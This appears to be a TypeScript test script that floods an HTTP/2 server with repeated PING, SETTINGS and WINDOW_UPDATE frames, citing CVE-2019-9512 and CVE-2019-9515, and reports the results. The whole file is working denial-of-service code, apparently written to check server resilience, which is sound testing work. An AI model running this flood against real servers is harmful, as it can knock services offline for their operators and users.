import { FRAME, frame, keepSending } from '../wire/http2-frames.ts';
import { given, report } from './given.ts';

/** PINGs and SETTINGS that ask for answers nobody reads (CVE-2019-9512, CVE-2019-9515), and empty DATA. */
const { nodes } = given();
const ping = frame(FRAME.ping, 0, 0, Buffer.alloc(8));
const settings = frame(FRAME.settings, 0, 0, Buffer.from('000400010000', 'hex'));
const update = frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]));
const FLOODS = { ping, settings, update };
const sent: Record<string, unknown> = {};
for (const [name, one] of Object.entries(FLOODS)) {
  const many = Buffer.concat(Array(500).fill(one));
  sent[name] = await keepSending({ port: nodes, forMs: 2_000, isReading: false }, () => () => many);
}
report(sent);
